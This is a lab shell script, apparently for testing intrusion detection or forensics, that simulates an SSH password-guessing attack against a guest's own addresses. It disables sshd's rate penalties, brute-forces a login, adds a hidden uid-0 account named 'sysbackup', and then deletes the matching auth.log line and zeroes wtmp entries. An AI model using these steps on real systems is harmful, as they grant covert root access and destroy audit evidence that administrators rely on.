# SPDX-License-Identifier: Apache-2.0
# A password is guessed over SSH, the intruder makes a second root, and erases the login's traces:
# the line of auth.log, and where there is one the record of wtmp. All addresses are this guest's own.
echo 'tanaka:genba-test-marker' | chpasswd
ip address add 198.51.100.10/32 dev lo
ip address add 203.0.113.66/32 dev lo
# An OpenSSH that slows such guessing down by itself would only make this longer.
if sshd -T 2>/dev/null | grep -q '^persourcepenalties'; then
  echo 'PerSourcePenalties no' >/etc/ssh/sshd_config.d/lab.conf
  systemctl reload ssh
fi

# login SAID SEEN COMMAND: as tanaka from the attacker's address, saying the password SAID.
login() {
  printf '#!/bin/sh\necho %s\n' "$1" >"/root/lab/say-$1"
  chmod 700 "/root/lab/say-$1"
  SSH_ASKPASS="/root/lab/say-$1" SSH_ASKPASS_REQUIRE=force setsid -w ssh -tt -b 203.0.113.66 \
    -o PreferredAuthentications=password -o NumberOfPasswordPrompts=6 -o StrictHostKeyChecking=no \
    -o UserKnownHostsFile=/dev/null -o ConnectTimeout=60 tanaka@198.51.100.10 "$2" </dev/null
}

guesses=''
for word in spring summer autumn winter; do
  login "$word" true &
  guesses="$guesses $!"
done
for guess in $guesses; do
  ! wait "$guess"
done

login genba-test-marker \
  'echo genba-test-marker | sudo -S useradd --non-unique --uid 0 --no-create-home --shell /bin/bash sysbackup'
rm /root/lab/say-*
id sysbackup

# The editor that is used for it puts a new file in the place of the old one.
grep -q 'Accepted password for tanaka from 203.0.113.66' /var/log/auth.log
sed -i '/Accepted password for tanaka/d' /var/log/auth.log
if [ -s /var/log/wtmp ]; then
  python=$(command -v python3) && "$python" - <<'END'
path = "/var/log/wtmp"
data = bytearray(open(path, "rb").read())
for at in range(0, len(data), 384):
    if b"203.0.113.66" in data[at:at + 384]:
        data[at:at + 384] = bytes(384)
open(path, "r+b").write(data)
END
fi
